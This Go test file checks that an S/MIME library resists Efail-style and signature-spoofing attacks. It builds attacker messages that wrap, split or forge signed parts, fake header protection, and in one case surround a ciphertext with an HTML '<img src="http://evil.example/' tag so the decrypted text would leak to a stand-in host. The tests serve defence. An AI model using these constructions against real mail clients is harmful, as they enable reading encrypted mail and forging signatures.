package smime_test

import (
	"strings"
	"testing"

	"countersign/mailer/message"
	"countersign/mailer/smime"
)

// The letters that an attacker would like to change or to claim.
const (
	secret = "The code is quartz lantern.\n"
	lie    = "Please call me on this new number.\n"
)

// attack is a message of an attacker's making, and the most that may be said of it.
type attack struct {
	name     string
	raw      string
	layers   string // as layers draws it
	text     string // shown
	subject  string // shown; "" stands for the outer one
	signedBy string // whose valid signature covers the payload, "" for nobody's
}

// attacks are after "Efail" (Poddebniak et al., 2018) and "Johnny, you are
// fired!" (Müller et al., 2019), and the mistakes found since. Eve has a
// certificate of her own, every message that Alice ever signed, and every
// ciphertext that Bob ever got.
func attacks() []attack {
	alice, bob, eve := people()["alice"], people()["bob"], people()["eve"]
	signed := clearSigned(alice, textPart(secret))
	sealed := encrypted(clearSigned(alice, textPart(secret)), bob)
	exfiltration := func(s string) string { return crlf("Content-Type: text/html\n\n" + s) }
	wrapper := crlf("Content-Type: message/rfc822\n\n")
	from := "From: alice@clinic.example\r\nSubject: inside\r\n"
	env := envelope(textPart(secret), bob)
	return []attack{
		// Partly signed, partly encrypted.
		{"text before a signed part", multipart("mixed", "m", textPart(lie), signed), "", lie, "", ""},
		{"signed part before a text", multipart("mixed", "m", signed, textPart(lie)), "", secret, "", ""},
		{"signed part in related", multipart("related", "m", exfiltration(lie), signed), "", lie, "", ""},
		{"signed part as an alternative", multipart("alternative", "m", textPart(lie), signed), "", lie, "", ""},
		{"a mailing list's footer", multipart("mixed", "m", signed, textPart("-- \nlist\n")), "", secret, "", ""},
		{"third part of multipart/signed", strings.Replace(signed, "--\r\n", "\r\n"+textPart(lie)+"\r\n--sig--\r\n", 1), "signed(error)", secret, "", ""},
		{"signature first", multipart(`signed; protocol="application/pkcs7-signature"`, "s", signaturePart(signature(alice, textPart(secret))), textPart(lie)), "signed(error)", lie, "", ""},
		{"only a signature", multipart(`signed; protocol="application/pkcs7-signature"`, "s", signaturePart(signature(alice, textPart(secret)))), "signed(error)", "", "", ""},
		{"text before the signed part", multipart(`signed; protocol="application/pkcs7-signature"`, "s", textPart(lie), textPart(secret), signaturePart(signature(alice, textPart(secret)))), "signed(error)", lie, "", ""},
		{"text in the preamble", strings.Replace(signed, "\r\n\r\n", "\r\n\r\n"+crlf(lie), 1), "signed(valid)", secret, "", "alice"},
		{"text in the epilogue", signed + crlf(lie), "signed(valid)", secret, "", "alice"},
		{"text after the signature's base64", strings.Replace(signed, "--\r\n", "--\r\n"+textPart(lie), 1), "signed(valid)", secret, "", "alice"},

		// The structure lies.
		{"inner boundary is the outer one", multipart(`signed; protocol="application/pkcs7-signature"`, "s", "Content-Type: multipart/mixed; boundary=s\r\n\r\n", textPart(lie)), "signed(error)", lie, "", ""},
		{"two boundaries said", strings.Replace(signed, "boundary=", "boundary=evil; boundary=", 1), "signed(error)", "", "", ""},
		{"two Content-Types", "Content-Type: text/plain\r\n" + signed, "", "", "", ""},
		{"the signature's type in another case", strings.Replace(signed, "multipart/signed", "MULTIPART/Signed", 1), "signed(valid)", secret, "", "alice"},
		{"OpenPGP's protocol", strings.Replace(signed, "pkcs7-signature", "pgp-signature", 1), "", secret, "", ""},
		{"part of a digest", "Content-Type: multipart/digest; boundary=d\r\n\r\n--d\r\n\r\n" + from + signed + "\r\n--d--\r\n", "", secret, "", ""},

		// Another content under a signature.
		{"changed text", strings.Replace(signed, "quartz", "marble", 1), "signed(invalid)", strings.Replace(secret, "quartz", "marble", 1), "", ""},
		{"added header field", strings.Replace(signed, "Content-Type: text/plain", "X-A: b\r\nContent-Type: text/plain", 1), "signed(invalid)", secret, "", ""},
		{"changed type of the signed part", strings.Replace(signed, "text/plain", "text/html", 1), "signed(invalid)", secret, "", ""},
		{"another's signature", clearSignedWith(textPart(lie), signature(alice, textPart(secret))), "signed(invalid)", lie, "", ""},
		{"a signature that brings its own content", clearSignedWith(textPart(lie), cmsOf(opaque(alice, textPart(secret)))), "signed(error)", lie, "", ""},
		{"Eve's own signature", clearSigned(eve, textPart(lie)), "signed(valid)", lie, "", "eve"},
		{"Eve's around Alice's", clearSigned(eve, signed), "signed(valid) signed(valid)", secret, "", "alice"},
		{"Eve's forward of Alice's", clearSigned(eve, multipart("mixed", "m", textPart(lie), wrapper+from+signed)), "signed(valid)", lie, "", "eve"},
		{"Eve's around a wrapped message of Alice's", clearSigned(eve, wrapper+from+textPart(lie)), "signed(valid)", lie, "inside", "eve"},
		{"Alice's forwarded as the whole message", wrapper + from + signed, "", secret, "", ""},
		{"Alice's as an attachment with a name", multipart("mixed", "m", textPart(lie), entity(`application/octet-stream; name=smime.p7m`, cmsOf(opaque(alice, textPart(secret))))), "", lie, "", ""},

		// Getting at the text of a ciphertext.
		{"direct exfiltration", multipart("mixed", "m", exfiltration(`<img src="http://evil.example/`), encrypted(textPart(secret), bob), exfiltration(`">`)), "", `<img src="http://evil.example/`, "", ""},
		{"ciphertext beside text", multipart("mixed", "m", textPart(lie), sealed), "", lie, "", ""},
		{"ciphertext in a forwarded message", multipart("mixed", "m", textPart("what does this say?\n"), wrapper+from+sealed), "", "what does this say?\n", "", ""},
		{"ciphertext alone in a multipart", multipart("mixed", "m", sealed), "", "", "", ""},
		{"ciphertext as the forwarded message", wrapper + from + sealed, "", "", "", ""},
		{"ciphertext under Eve's signature", clearSigned(eve, encrypted(textPart(secret), bob)), "signed(valid) encrypted", secret, "", ""},
		{"ciphertext under Eve's signature, beside text", clearSigned(eve, multipart("mixed", "m", textPart(lie), encrypted(textPart(secret), bob))), "signed(valid)", lie, "", "eve"},
		{"ciphertext within Eve's envelope, beside text", encrypted(multipart("mixed", "m", textPart(lie), sealed), bob), "encrypted", lie, "", ""},
		{"block of the ciphertext changed", entity("application/pkcs7-mime", flip(env, len(env)-40)), "encrypted", "", "", ""},
		{"envelope without a signature", encrypted(textPart(lie), bob), "encrypted", lie, "", ""},

		// The header lies.
		{"another From outside", signed, "signed(valid)", secret, "", "alice"},
		{"Subject of the signed part without protection", clearSigned(alice, "Subject: inside\r\n"+textPart(secret)), "signed(valid)", secret, "", "alice"},
		{"protection claimed without a layer", "hp: clear\r\nHP-Outer: Subject: x\r\n" + textPartWith("; hp=cipher", lie), "", lie, "", ""},
		{"protection claimed around the layer", strings.Replace(signed, "multipart/signed;", "multipart/signed; hp=clear;", 1), "signed(valid)", secret, "", "alice"},
		{"protection claimed around a broken layer", strings.Replace(multipart(`signed; hp=clear; protocol="application/pkcs7-signature"`, "s", textPart(lie)), "Content-Type", from+"Content-Type", 1), "signed(error)", lie, "", ""},
	}
}

// cmsOf is the CMS object in an entity.
func cmsOf(e string) string {
	p, err := message.Parse(message.Bytes(e), message.Limits{})
	must(err)
	r, err := p.Open()
	must(err)
	b := make([]byte, 1<<20)
	n, _ := r.Read(b)
	return string(b[:n])
}

func flip(s string, at int) string { return s[:at] + string([]byte{s[at] ^ 1}) + s[at+1:] }

func TestAttacks(t *testing.T) {
	if n := len(attacks()); n < 20 {
		t.Fatalf("%d attacks", n)
	}
	for _, a := range attacks() {
		t.Run(a.name, func(t *testing.T) {
			from := "alice@clinic.example"
			if a.name == "another From outside" {
				from = "mallory@evil.example"
			}
			o := open(t, message.Bytes(outer(from, a.raw)), people()["bob"].opens())
			if o.Problem != nil {
				t.Fatal(o.Problem)
			}
			if got := layers(o); got != a.layers {
				t.Errorf("layers %q, want %q", got, a.layers)
			}
			if got := shown(t, o); a.text != "" && got != a.text {
				t.Errorf("%q is shown, want %q", got, a.text)
			}
			subject := "outside"
			if a.subject != "" {
				subject = a.subject
			}
			if got := o.Header.Get("Subject"); got != subject {
				t.Errorf("Subject %q, want %q", got, subject)
			}
			if got := signedBy(o); got != a.signedBy {
				t.Errorf("the payload is signed by %q, want %q", got, a.signedBy)
			}
			if len(o.Layers) == 0 && len(o.Protected) > 0 {
				t.Error("a header is protected by no layer")
			}
			// What lies in an errant layer is not decrypted for anybody.
			if !strings.Contains(a.layers, "encrypted") && strings.Contains(a.raw, "pkcs7-mime") && everything(t, o, secret) {
				t.Error("an errant envelope was opened")
			}
		})
	}
}

// signedBy is the signer of the innermost layer, if that is a signature and valid:
// the only one who speaks for the payload.
func signedBy(o *smime.Opened) string {
	if len(o.Layers) == 0 {
		return ""
	}
	l := o.Layers[len(o.Layers)-1]
	if l.Err != nil || l.Signed == nil || len(l.Signed.Signers) != 1 || l.Signed.Signers[0].Err != nil {
		return ""
	}
	name, _, _ := strings.Cut(l.Signed.Signers[0].Certificate.EmailAddresses[0], "@")
	return name
}

// everything tells whether any part of the payload has the words in it.
func everything(t *testing.T, o *smime.Opened, words string) bool {
	found := false
	_ = o.Payload.Walk(func(p *message.Part) error {
		s, err := p.Text(1 << 20)
		if err != nil {
			t.Fatal(err)
		}
		found = found || len(p.Parts) == 0 && strings.Contains(s, words)
		return nil
	})
	return found
}
